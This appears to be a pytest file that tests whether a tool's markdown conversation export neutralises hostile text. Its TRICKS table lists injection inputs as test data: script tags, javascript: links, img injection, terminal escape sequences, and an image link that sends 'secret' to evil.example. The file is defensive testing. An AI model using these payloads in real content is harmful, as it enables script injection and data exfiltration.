"""`jarvis threads export --markdown`: a conversation to read, which no foreign text takes apart."""

import pytest
from markdown_it import MarkdownIt

from jarvis.core.events import TableShown
from jarvis.core.types import Found, Outcome
from tests.steps import end_step, keep_found, start_step
from tests.store.test_listed import SWITCHES

READER = MarkdownIt("commonmark").enable("table")  # it takes HTML
FORMULA = SWITCHES._replace(
    rows=(SWITCHES.rows[0]._replace(cells={**SWITCHES.rows[0].cells, "title": "a | b\n# c <img>"}),)
)


def exported(shell, title="Old switches", goal="find one", reply="See [4].", did="Found 3.", page="A"):
    async def talk(store):
        turn = await store.history.begin("default", goal)
        await keep_found(store.history, turn, 1, [Found("https://a.example/(x)", page)])
        await start_step(store.history, turn, 1, "search", {"query": "x"}, "x")
        await end_step(store.history, turn, 1, Outcome("done", did), "x")
        tables = [TableShown(SWITCHES, 1), TableShown(FORMULA, 4)]
        await store.history.end(turn, "done", reply, shown=["o1", "o2", "o3", "r1"], tables=tables)
        await store.threads.rename("default", title)

    shell.kept(talk)
    done = shell.jarvis("threads", "export", "--markdown", "default")
    assert (done.status, done.stderr) == (0, "")
    return done.stdout


def test_a_conversation_is_written_to_be_read(shell):
    text = exported(shell)

    title, request, when, did, *table, notes, reply, sources = text.strip().split("\n\n")
    assert (title, request, did, reply) == ("# Old switches", "## find one", "- Found 3.", "> See [4].")
    assert when.endswith(" · done")
    assert table[0].split("\n")[::2] == [
        "|  | product | price | state | page |",
        "| 1 | Switch | $129.00 | used | [shop.example](https://shop.example/o1) |",
        "| 3 | Switch Lite | - | - |  |",
    ]
    assert "over $150.00" in table[1]
    assert notes.startswith("- ")
    assert sources == "4. [a.example](https://a.example/%28x%29) A"


TRICKS = {
    "a head": "# Jarvis\n\nJarvis\n===",
    "a fence": "```\nnever ended",
    "a list and code": "- a\n\n      <b>\n1. <i>\n",
    "HTML": "</blockquote><script>x</script>\n\n<!--",
    "an address": "<javascript:x> <https://evil.example>",
    "links": "[x](javascript:x) [y](<javascript:x>) [z]( data:x) [x][y]\n\n[y]: javascript:x\n[4]: //evil",
    "a picture": "![x](https://evil.example/?q=secret)",
    "code across lines": "`\na `<img src=x>` b",
    "code across cells": "| ` | `<img>` |\n|--|--|\n| ` | ` <img> |",
    "escaped ticks": "\\`<img>\\` ``<i> `<img>`` `\\`<img>`",
    "tabs": "a\n\n\t<b>\n\n-\t\t<i>",
    "a quote left": "> a\n\n# b\n---\n",
    "signs of a terminal": "\x1b[31mred\x1b]8;;https://evil.example\x07x",
}


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS)
def test_foreign_text_stays_in_its_place(shell, trick):
    text = exported(shell, *[trick] * 5)

    read = READER.parse(text)
    inline = [each for block in read if block.type == "inline" for each in block.children]
    heads = [block.tag for block in read if block.type == "heading_open" and block.level == 0]
    assert heads == ["h1", "h2"]
    assert not {each.type for each in (*read, *inline)} & {"html_block", "html_inline", "image"}
    links = {each.attrs["href"].partition("/o")[0] for each in inline if each.type == "link_open"}
    assert links <= {"https://shop.example", "https://a.example/%28x%29"}
    assert [row.map for row in read if row.type == "table_open" and row.level == 0]
    assert "\x1b" not in text


def test_a_harmless_reply_stays_as_it_was_written(shell):
    reply = "## So\n\nUse `List<String>`, [docs](https://docs.example/a) and:\n\n```html\n<b>\n```"

    assert "\n".join(f"> {line}" for line in reply.split("\n")) in exported(shell, reply=reply)
